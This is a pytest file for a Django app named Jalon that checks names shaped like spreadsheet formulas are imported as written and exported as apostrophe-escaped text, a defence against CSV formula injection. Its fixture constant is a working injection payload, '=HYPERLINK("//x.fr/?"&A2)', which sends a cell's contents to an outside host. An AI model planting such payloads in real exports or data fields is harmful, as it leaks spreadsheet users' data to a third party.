"""Names that a spreadsheet would run as formulas: the imports keep them as they are written (a name is the
partner's data, not Jalon's to refuse), and every export hands them out as text."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from jalon.core.enums import Role
from jalon.intake import services
from jalon.intake.models import ImportRun
from jalon.orientation.enums import DelayStep
from jalon.people.models import Person
from tests.conftest import actor_for
from tests.intake.flux_builder import H, P, flux
from tests.intake.test_spreadsheet_import import OPTIONS, csv_upload, row
from tests.organisations.factories import MembershipFactory
from tests.territories.factories import CommuneFactory, DepartementFactory


pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("//x.fr/?"&A2)'  # the flux allows 28 characters for a name


@pytest.fixture
def admin():
    landes = DepartementFactory()
    CommuneFactory(code="40192", name="Mont-de-Marsan", departement=landes, postal_codes=["40000"])
    return MembershipFactory(role=Role.ADMINISTRATOR, organisation__kind="cd", organisation__departement=landes)


def _download(client, url, params=None) -> list[list[str]]:
    response = client.get(url, params)
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


def test_a_caf_flux_name_that_is_a_formula_is_imported_and_exported_as_text(
    login_as, admin, django_capture_on_commit_callbacks
):
    content = flux([H("1111111", [P(HYPERLINK.replace("&", "&amp;"), "@SUM(1)", "1985-05-06", "2850540192123")])])
    client = login_as(admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("intake:imports"), {"file": SimpleUploadedFile("flux.xml", content, "text/xml")})
    person = Person.objects.get()
    assert person.first_name == "@SUM(1)" and person.last_name.startswith("=HYPERLINK(")  # accepted as written

    # Never oriented since 2024: the person is in the export of late orientations.
    rows = _download(client, reverse("orientation:delays_csv"), {"etape": DelayStep.ORIENTATION})
    assert rows[1][:2] == ["'" + HYPERLINK.upper(), "'@SUM(1)"]  # the export writes last names in capitals


def test_a_spreadsheet_name_that_is_a_formula_is_imported_and_its_rejected_row_exported_as_text(
    login_as, admin, django_capture_on_commit_callbacks
):
    actor = actor_for(admin)
    rows = [row(HYPERLINK, "-2+3", "06/05/1985"), row("+33612345678", "Léa", "31/02/1980")]
    run = services.spreadsheet_upload(actor=actor, uploaded_file=csv_upload(rows))
    with django_capture_on_commit_callbacks(execute=True):
        services.spreadsheet_import(actor=actor, run=run, **OPTIONS)
    person = Person.objects.get()
    assert person.first_name == "-2+3" and person.last_name.upper() == HYPERLINK.upper()

    rejected = _download(login_as(admin), reverse("intake:import_rejected_csv", args=[ImportRun.objects.get().pk]))
    assert rejected[0] == ["ligne", "identifiant", "motif"]
    line, identifier, _reason = rejected[1]
    assert (line, identifier) == ("3", "'+33612345678 Léa")
